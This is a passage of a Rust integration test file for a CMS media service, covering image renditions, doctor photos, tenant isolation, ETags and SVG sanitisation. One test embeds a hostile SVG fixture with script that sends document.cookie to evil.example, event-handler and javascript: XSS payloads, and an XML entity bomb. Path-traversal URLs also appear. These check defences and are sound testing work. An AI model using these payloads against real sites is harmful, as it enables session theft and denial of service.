        let image = delivered_image(&app, &site, "/hall").await;
        if image["sources"]["avif"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
        {
            break image;
        }
        assert!(std::time::Instant::now() < deadline, "no AVIF: {image}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    // Exported and imported again (a copy of the site): the live page's
    // resolved image validates and is kept as it was.
    let document = app
        .get(&format!("/api/v1/sites/{site}/export"), &editor)
        .await
        .expect(200)
        .body;
    let copy = app
        .post(
            "/api/v1/sites/import",
            &editor,
            json!({"name": "Hall copy", "domain": "hall-copy.localhost", "document": document}),
        )
        .await
        .expect(201)
        .body;
    let copied = delivered_image(&app, copy["id"].as_str().unwrap(), "/hall").await;
    assert_eq!(copied, image);
    let renderer = app.renderer().await;
    let (status, _, html) = renderer.get("alpha.localhost", "/hall").await;
    assert_eq!(status, 200);
    let avif = image["sources"]["avif"][0]["src"].as_str().unwrap();
    let webp = image["sources"]["webp"][0]["src"].as_str().unwrap();
    assert!(
        html.contains(&format!(
            r#"<picture><source type="image/avif" srcset="{avif} "#
        )),
        "{html}"
    );
    assert!(html.contains(r#"<source type="image/webp" srcset=""#));
    assert!(
        html.contains(r#"class="ph-1" fetchpriority="high""#),
        "{html}"
    );
    let placeholder = image["placeholder"].as_str().unwrap();
    assert!(html.contains(&format!(
        ".ph-1{{background:center/cover no-repeat url(\"{placeholder}\")}}</style>"
    )));
    assert!(
        html.contains(r#"type="image/avif" fetchpriority="high">"#),
        "preloaded as AVIF"
    );

    // The renderer serves the files on the site's origin, as the api does.
    let from_api = reqwest::get(format!("{}{webp}", app.address))
        .await
        .unwrap();
    let api_etag = from_api.headers()["etag"].clone();
    let api_bytes = from_api.bytes().await.unwrap();
    let client = reqwest::Client::new();
    let get = |path: String, headers: Vec<(&'static str, String)>| {
        let mut request = client.get(format!("{}{path}", renderer.address));
        for (name, value) in headers {
            request = request.header(name, value);
        }
        request.send()
    };
    let whole = get(webp.to_owned(), vec![]).await.unwrap();
    assert_eq!(whole.status(), 200);
    assert_eq!(whole.headers()["content-type"], "image/webp");
    assert_eq!(
        whole.headers()["cache-control"],
        "public, max-age=31536000, immutable"
    );
    assert_eq!(whole.headers()["x-content-type-options"], "nosniff");
    assert_eq!(whole.headers()["etag"], api_etag);
    assert_eq!(whole.bytes().await.unwrap(), api_bytes);
    let part = get(webp.to_owned(), vec![("range", "bytes=0-9".into())])
        .await
        .unwrap();
    assert_eq!(part.status(), 206);
    assert_eq!(
        part.headers()["content-range"],
        format!("bytes 0-9/{}", api_bytes.len()).as_str()
    );
    assert_eq!(part.bytes().await.unwrap(), api_bytes.slice(0..10));
    let again = get(
        webp.to_owned(),
        vec![("if-none-match", api_etag.to_str().unwrap().to_owned())],
    )
    .await
    .unwrap();
    assert_eq!(again.status(), 304);
    // What is not a media file name answers 404.
    for bad in [
        "/media/a/b/..%2F..%2Fsecret",
        "/media/a/b/c?x",
        "/media/a%20b/c/d.webp",
    ] {
        assert_eq!(
            get(bad.to_owned(), vec![]).await.unwrap().status(),
            404,
            "{bad}"
        );
    }
}

#[tokio::test]
async fn a_doctors_photo_from_the_library_is_resolved_for_visitors_and_shown_by_the_renderer() {
    let app = TestApp::spawn().await;
    let (alpha, beta) = demo_editors(&app).await;
    // Alt text left empty: visitors get the doctor's name.
    let uploaded = app
        .upload(
            &alpha.access,
            "doctor.jpg",
            gradient_jpeg(800, 800, 21),
            &[],
        )
        .await
        .expect(201)
        .body;
    let id = uploaded["id"].as_str().unwrap().to_owned();
    let theirs = app
        .upload_ready(
            &beta.access,
            "theirs.jpg",
            gradient_jpeg(400, 400, 22),
            "Beta",
        )
        .await;
    // A cardiologist: the demo /clinic page lists them.
    let site = app.first_site(&alpha.access).await;
    let doctors = app
        .public(
            &format!("/api/v1/delivery/sites/{site}/doctors?specialization=cardiology"),
            &[],
        )
        .await
        .expect(200)
        .body;
    let doctor = &doctors["items"][0];
    let (doctor_id, name) = (
        doctor["id"].as_str().unwrap().to_owned(),
        doctor["name"].as_str().unwrap().to_owned(),
    );
    let path = format!("/api/v1/doctors/{doctor_id}");
    // Another tenant's media is unknown here.
    let refused = app
        .patch(
            &path,
            &alpha.access,
            json!({"photo_media_id": theirs["id"]}),
        )
        .await
        .expect_problem(422);
    assert_eq!(refused.error_fields(), vec!["photo_media_id"]);
    let changed = app
        .patch(&path, &alpha.access, json!({"photo_media_id": id}))
        .await
        .expect(200)
        .body;
    assert_eq!(changed["photo_media_id"], id.as_str());
    app.wait_media(&alpha.access, &id, |m| m["status"] == "ready")
        .await;

    // Delivery resolves it once the renditions exist (AVIF comes last).
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let photo = loop {
        let detail = app
            .public(
                &format!("/api/v1/delivery/sites/{site}/doctors/{doctor_id}"),
                &[],
            )
            .await
            .expect(200)
            .body;
        let photo = detail["photo_image"].clone();
        if photo["sources"]["avif"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
        {
            break photo;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no resolved photo: {detail}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(photo["media"], id.as_str());
    assert_eq!(photo["alt"], name.as_str());
    assert!(photo["placeholder"]
        .as_str()
        .unwrap()
        .starts_with("data:image/png"));
    let data = app
        .public(&format!("/api/v1/delivery/sites/{site}/clinic-data"), &[])
        .await
        .expect(200)
        .body;
    let listed = data["doctors"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["id"] == doctor_id.as_str())
        .unwrap();
    assert_eq!(listed["photo_image"], photo);

    // The renderer's doctors list shows it as a picture.
    let renderer = app.renderer().await;
    let (status, _, html) = renderer.get("alpha.localhost", "/clinic").await;
    assert_eq!(status, 200);
    let avif = photo["sources"]["avif"][0]["src"].as_str().unwrap();
    assert!(
        html.contains(avif),
        "the doctor's photo is not on the page: {html}"
    );

    // In use by the doctor: not deleted, and the usage names them.
    let usage = app
        .get(&format!("/api/v1/media/{id}/usage"), &alpha.access)
        .await
        .expect(200)
        .body;
    assert!(usage.to_string().contains(&doctor_id), "{usage}");
    let conflict = app
        .delete(&format!("/api/v1/media/{id}"), &alpha.access)
        .await
        .expect_problem(409);
    assert!(conflict.text.contains(&doctor_id), "{}", conflict.text);
    // Cleared with null: the delivery photo goes.
    app.patch(&path, &alpha.access, json!({"photo_media_id": null}))
        .await
        .expect(200);
    let detail = app
        .public(
            &format!("/api/v1/delivery/sites/{site}/doctors/{doctor_id}"),
            &[],
        )
        .await
        .expect(200)
        .body;
    assert!(detail.get("photo_image").is_none(), "{detail}");
}

#[tokio::test]
async fn a_tenant_that_allows_svg_gets_it_sanitised_and_served_under_a_script_free_csp() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let hostile = br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" viewBox="0 0 120 60" onload="alert(1)">
  <script>fetch('https://evil.example/'+document.cookie)</script>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <a xlink:href="javascript:alert(2)"><circle cx="30" cy="30" r="20" fill="teal"/></a>
  <rect x="60" y="10" width="40" height="40" fill="navy" onmouseover="alert(3)"/>
</svg>"#
        .to_vec();

    // Off by default, and only owners and admins turn it on.
    app.upload(&editor, "logo.svg", hostile.clone(), &[("alt", "Logo")])
        .await
        .expect_problem(422);
    let allow = json!({"allow_svg": true});
    app.send(
        reqwest::Method::PUT,
        "/api/v1/media/quota",
        Some(&editor),
        Some(&allow),
        &[],
    )
    .await
    .expect_problem(403);
    let admin = admin(&app).await;
    let quota = app
        .send(
            reqwest::Method::PUT,
            "/api/v1/media/quota",
            Some(&admin),
            Some(&allow),
            &[],
        )
        .await
        .expect(200)
        .body;
    assert_eq!(quota["allow_svg"], true);

    // Not a well-formed SVG, or an entity bomb: refused, nothing written.
    for broken in [
        b"<svg xmlns='http://www.w3.org/2000/svg'><circle".to_vec(),
        br#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;&b;&b;</text></svg>"#.to_vec(),
    ] {
        let reply = app.upload(&editor, "broken.svg", broken, &[]).await;
        reply.expect_problem(422);
    }
    assert_eq!(app.count_rows("media"), 0);

    let media = app
        .upload_ready(&editor, "logo.svg", hostile.clone(), "Logo")
        .await;
    assert_eq!(media["kind"], "svg");
    // width 240 with a 2:1 viewBox.
    assert_eq!(
        (media["width"].as_u64(), media["height"].as_u64()),
        (Some(240), Some(120))
    );
    let files = renditions(&media);
    assert_eq!(files.len(), 1, "{media}");
    assert_eq!(files[0]["format"], "svg");
    assert!(!has_avif(&media));

    let url = files[0]["url"].as_str().unwrap();
    let served = app.client.get(app.url(url)).send().await.unwrap();
    assert_eq!(served.status(), 200);
    let headers = served.headers().clone();
    assert_eq!(headers["content-type"], "image/svg+xml");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    let csp = headers["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("default-src 'none'") && csp.contains("sandbox"),
        "{csp}"
    );
    let text = served.text().await.unwrap();
    for banned in [
        "script",
        "onload",
        "onmouseover",
        "foreignObject",
        "iframe",
        "evil.example",
        "javascript:",
    ] {
        assert!(!text.contains(banned), "{banned} was served: {text}");
    }
    assert!(text.contains("<circle") && text.contains("<rect"), "{text}");

    // The same upload again is the same media.
    let again = app
        .upload(&editor, "logo-again.svg", hostile, &[])
        .await
        .expect(200)
        .body;
    assert_eq!(again["id"], media["id"]);
    assert_eq!(app.count_rows("media"), 1);

    // In a block, delivery shows the vector file itself: no raster sources.
    let id = media["id"].as_str().unwrap();
    let (_, _, site) = page_showing(&app, &editor, "/svg-logo", json!({"media": id})).await;
    let image = delivered_image(&app, &site, "/svg-logo").await;
    assert!(image["src"].as_str().unwrap().ends_with(".svg"), "{image}");
    assert_eq!(
        (image["width"].as_u64(), image["height"].as_u64()),
        (Some(240), Some(120))
    );
    assert_eq!(image["sources"], json!({"avif": [], "webp": []}));
}

/// An AVIF of a gradient, encoded by rav1e through the imaging crate.
fn gradient_avif(width: u32, height: u32) -> Vec<u8> {
    let decoded = cms_imaging::decode(&gradient_jpeg(width, height, 90), u64::MAX).unwrap();
    let plan = cms_imaging::Plan {
        widths: vec![width],
        fills: vec![],
        crop: None,
        focal: cms_shared::media::FocalPoint { x: 0.5, y: 0.5 },
        webp_quality: 80.0,
        jpeg_quality: 80,
        avif_quality: 70.0,
        avif_speed: 10,
        deadline: std::time::Instant::now() + Duration::from_secs(60),
        deadline_secs: 60,
    };
    cms_imaging::render(&decoded, &plan, &[cms_imaging::Format::Avif])
        .unwrap()
        .remove(0)
        .bytes
}

#[tokio::test]
async fn an_avif_upload_is_decoded_into_webp_avif_and_jpeg_renditions() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let media = app
        .upload_ready(&editor, "photo.avif", gradient_avif(700, 400), "A gradient")
        .await;
    assert_eq!(media["kind"], "avif");
    assert_eq!(media["status"], "ready", "{media}");
    let plain: Vec<(String, u64)> = renditions(&media)
        .iter()
        .filter(|r| r["fill"].is_null())
        .map(|r| {
            (
                r["format"].as_str().unwrap().to_owned(),
                r["width"].as_u64().unwrap(),
            )
        })
        .collect();
    for width in [320, 640, 700] {
        assert!(plain.contains(&("webp".into(), width)), "{plain:?}");
        assert!(plain.contains(&("jpeg".into(), width)), "{plain:?}");
    }
    let webp = renditions(&media)
        .into_iter()
        .find(|r| r["format"] == "webp" && r["width"] == 640)
        .unwrap();
    let bytes = app
        .client
        .get(app.url(webp["url"].as_str().unwrap()))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let seen = pillow_inspect(&bytes);
    assert_eq!(
        (
            seen["format"].as_str(),
            seen["width"].as_u64(),
            seen["height"].as_u64()
        ),
        (Some("WEBP"), Some(640), webp["height"].as_u64())
    );
    let done = app
        .wait_media(&editor, media["id"].as_str().unwrap(), has_avif)
        .await;
    assert!(renditions(&done)
        .iter()
        .any(|r| r["format"] == "avif" && r["width"] == 700));
}

#[tokio::test]
async fn new_renditions_of_a_doctors_photo_announce_the_tenants_clinic_data() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let site = app.first_site(&editor).await;
    let doctors = app
        .public(&format!("/api/v1/delivery/sites/{site}/doctors"), &[])
        .await
        .expect(200)
        .body;
    let doctor_id = doctors["items"][0]["id"].as_str().unwrap().to_owned();
    let media = app
        .upload_ready(&editor, "doctor.jpg", gradient_jpeg(600, 600, 33), "Dr")
        .await;
    let id = media["id"].as_str().unwrap().to_owned();
    app.patch(
        &format!("/api/v1/doctors/{doctor_id}"),
        &editor,
        json!({"photo_media_id": id}),
    )
    .await
    .expect(200);
    // Everything the upload started is done before listening: the only
    // renditions made from here on are the focal point's.
    app.wait_media(&editor, &id, has_avif).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut listener = InvalidationListener::subscribe().await;
    app.patch(
        &format!("/api/v1/media/{id}"),
        &editor,
        json!({"focal_point": {"x": 0.2, "y": 0.3}}),
    )
    .await
    .expect(200);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    loop {
        let left = deadline.saturating_duration_since(tokio::time::Instant::now());
        let message = listener
            .next_for_site(&site, left)
            .await
            .expect("no clinic data announcement after the photo's new renditions");
        if message["clinic_data"] == true {
            break;
        }
    }
}

#[tokio::test]
async fn an_edit_with_the_etag_read_before_the_renditions_were_made_still_applies() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let uploaded = app
        .upload(&editor, "early.jpg", gradient_jpeg(500, 300, 44), &[])
        .await
        .expect(201);
    let etag = uploaded.headers["etag"].to_str().unwrap().to_owned();
    let id = uploaded.body["id"].as_str().unwrap().to_owned();
    // The job writes status, renditions and placeholder: not an edit.
    let ready = app.wait_media(&editor, &id, has_avif).await;
    assert_eq!(ready["version"], uploaded.body["version"]);
    let edited = app
        .send(
            reqwest::Method::PATCH,
            &format!("/api/v1/media/{id}"),
            Some(&editor),
            Some(&json!({"alt": "Added after the renditions"})),
            &[("If-Match", &etag)],
        )
        .await
        .expect(200)
        .body;
    assert_eq!(edited["alt"], "Added after the renditions");
    // A second edit with the same, now stale, ETag is refused.
    app.send(
        reqwest::Method::PATCH,
        &format!("/api/v1/media/{id}"),
        Some(&editor),
        Some(&json!({"alt": "Stale"})),
        &[("If-Match", &etag)],
    )
    .await
    .expect_problem(412);
}

#[tokio::test]
async fn a_site_logo_from_the_library_is_checked_resolved_for_the_renderer_and_refreshed() {
    let app = TestApp::spawn().await;
    let (alpha, beta) = demo_editors(&app).await;
    let site = app.first_site(&alpha.access).await;
    let theirs = app
        .upload_ready(
            &beta.access,
            "theirs.png",
            gradient_jpeg(300, 100, 51),
            "Beta",
        )
        .await;
    let current = app
        .get(&format!("/api/v1/sites/{site}"), &alpha.access)
        .await
        .expect(200)
        .body;
    let with_logo = |logo: Value| {
        let mut theme = current["theme"].clone();
        theme["logo"] = logo;
        json!({"theme": theme})
    };
    // Another tenant's media, or one without alt text: 422 at the field.
    let refused = app
        .patch(
            &format!("/api/v1/sites/{site}"),
            &alpha.access,
            with_logo(json!({"media": theirs["id"]})),
        )
        .await
        .expect_problem(422);
    assert_eq!(refused.error_fields(), vec!["theme.logo.media"]);

    let logo = app
        .upload_ready(
            &alpha.access,
            "logo.jpg",
            gradient_jpeg(320, 80, 52),
            "Alpha",
        )
        .await;
    let id = logo["id"].as_str().unwrap().to_owned();
    app.wait_media(&alpha.access, &id, has_avif).await;
    app.patch(
        &format!("/api/v1/sites/{site}"),
        &alpha.access,
        with_logo(json!({"media": id, "alt": "Alpha Clinics"})),
    )
    .await
    .expect(200);
    let manifest = || app.public("/api/v1/delivery/sites/by-host/alpha.localhost", &[]);
    let first = manifest().await.expect(200).body["theme"]["logo"].clone();
    let first_src = first["src"].as_str().unwrap().to_owned();
    assert!(!first_src.is_empty(), "{first}");

    // New renditions (a focal point) replace the files: the cached manifest
    // is refreshed, so no renderer keeps pointing at the old ones.
    app.patch(
        &format!("/api/v1/media/{id}"),
        &alpha.access,
        json!({"focal_point": {"x": 0.1, "y": 0.5}}),
    )
    .await
    .expect(200);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    let resolved = loop {
        let body = manifest().await.expect(200).body;
        if body["theme"]["logo"]["src"]
            .as_str()
            .is_some_and(|src| src != first_src)
        {
            break body["theme"]["logo"].clone();
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the manifest still shows the old renditions: {body}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(resolved["alt"], "Alpha Clinics");
    assert!(resolved["sources"]["webp"]
        .as_array()
        .is_some_and(|s| !s.is_empty()));
    // The logo is in use: deleting it is refused and names the site.
    let in_use = app
        .delete(&format!("/api/v1/media/{id}"), &alpha.access)
        .await
        .expect_problem(409);
    assert!(in_use.text.contains("\"site\""), "{}", in_use.text);
}
